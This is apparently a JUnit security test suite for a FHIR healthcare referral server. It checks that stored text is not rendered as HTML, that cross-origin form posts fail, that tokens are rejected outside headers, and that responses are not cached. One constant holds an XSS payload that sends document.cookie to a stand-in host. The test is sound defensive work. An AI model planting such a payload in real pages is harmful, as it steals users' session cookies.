package nl.wally.attack;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.http.HttpRequest.BodyPublishers;
import java.util.List;
import java.util.stream.Stream;
import nl.wally.FhirClient.Answer;
import nl.wally.Messages;
import nl.wally.ReferralLife;
import nl.wally.ServerIT;
import org.hl7.fhir.r4.model.ServiceRequest;
import org.hl7.fhir.r4.model.Task;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;

/** What somebody else's web page, or a script in a story, could do with the browser of a person who works here. */
class BrowsersIT extends ServerIT {
    private static final String SCRIPT = "<script>fetch('//elsewhere.example/'+document.cookie)</script>";

    /** A GP writes down what a person says, a person says anything: it stays a text, whatever the reader asks for. */
    @Test
    void aScriptInAStoryStaysAText() {
        var referral = Messages.referral(1);
        Messages.part(referral, ServiceRequest.class).addNote().setText("Zij zei: " + SCRIPT);
        ReferralLife life = ReferralLife.begin(server, "his-demo-1", referral);
        for (String format :
                List.of("", "?_format=html", "?_format=text/html", "?_format=json&_pretty=true", "?_format=xml")) {
            for (String accept : List.of("text/html", "text/html,application/xhtml+xml,*/*;q=0.8", "*/*")) {
                Answer answer =
                        server.send(server.request("wally-demo-1", "/" + life.reference(ServiceRequest.class) + format)
                                .header("Accept", accept)
                                .GET());
                if (answer.status() == 200) {
                    assertThat(answer.header("Content-Type").orElseThrow()).matches("application/fhir\\+(json|xml).*");
                }
                assertThat(answer.header("X-Content-Type-Options")).hasValue("nosniff");
                assertThat(answer.header("Content-Security-Policy").orElseThrow())
                        .startsWith("default-src 'none'");
                assertThat(answer.header("Cache-Control").orElseThrow()).contains("no-store");
            }
        }
    }

    /** A form on another page sends what browsers send without asking: these types, and cookies, of which there are none. */
    @TestFactory
    Stream<DynamicTest> aFormOfElsewhereChangesNothing() {
        String body = server.json(Messages.referral(1));
        return Stream.of("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x")
                .flatMap(type -> Stream.of("/fhir", "/fhir/Task", "/fhir/Task/1", "/simulator/check", "/oauth2/token")
                        .map(path -> DynamicTest.dynamicTest(type + " to " + path, () -> {
                            for (String token : List.of("", server.tokens().bearer("his-demo-1"))) {
                                if (path.equals("/simulator/check") && !token.isEmpty()) {
                                    // Begins a check of one's own, in memory: whoever shows a token is no form.
                                    continue;
                                }
                                Wire.Said said = Wire.say(
                                        server.base(),
                                        "POST " + path + " HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
                                                + "Origin: https://elsewhere.example\r\nCookie: JSESSIONID=1\r\nContent-Type: "
                                                + type + "\r\n"
                                                + (token.isEmpty() ? "" : "Authorization: " + token + "\r\n")
                                                + "Content-Length: " + body.length() + "\r\n\r\n" + body);
                                assertThat(said.status()).as(said.text()).isIn(400, 401, 415);
                                assertThat(said.headers("Set-Cookie")).isEmpty();
                            }
                        })));
    }

    /** A token belongs in a header, where no history, log or referrer keeps it. */
    @Test
    void aTokenCountsInTheHeaderOnly() {
        String token = server.tokens().of("his-demo-1");
        assertThat(Wire.say(
                                server.base(),
                                "GET /fhir/Task?access_token=" + token
                                        + " HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
                        .status())
                .isEqualTo(401);
        assertThat(Wire.say(
                                server.base(),
                                "GET /fhir/Task HTTP/1.1\r\nHost: x\r\nConnection: close\r\nCookie: access_token="
                                        + token + "\r\n\r\n")
                        .status())
                .isEqualTo(401);
    }

    /** What a cache on the way could keep for the next person: nothing that depends on who asks. */
    @Test
    void noAnswerAboutAPersonMayBeKept() {
        ReferralLife life = ReferralLife.begin(server, 1);
        String task = "/" + life.reference(Task.class);
        for (String path : List.of(
                task,
                task + "/_history",
                task + "/_history/1",
                "/Task",
                "/Task?_id=x",
                task + "/$available-actions",
                "/Patient/none",
                "/Task?vogel=1")) {
            Answer answer = server.send(server.request("his-demo-1", path)
                    .header("If-None-Match", "W/\"1\"")
                    .header("Cache-Control", "max-age=3600")
                    .GET());
            assertThat(answer.header("Cache-Control").orElseThrow()).as(path).contains("no-store");
            assertThat(answer.header("Expires").orElse("0")).as(path).isEqualTo("0");
        }
        assertThat(server.send(server.request("his-demo-1", "/Task/_search")
                                .header("Content-Type", "application/x-www-form-urlencoded")
                                .POST(BodyPublishers.ofString("_id=x")))
                        .header("Cache-Control")
                        .orElseThrow())
                .contains("no-store");
    }
}
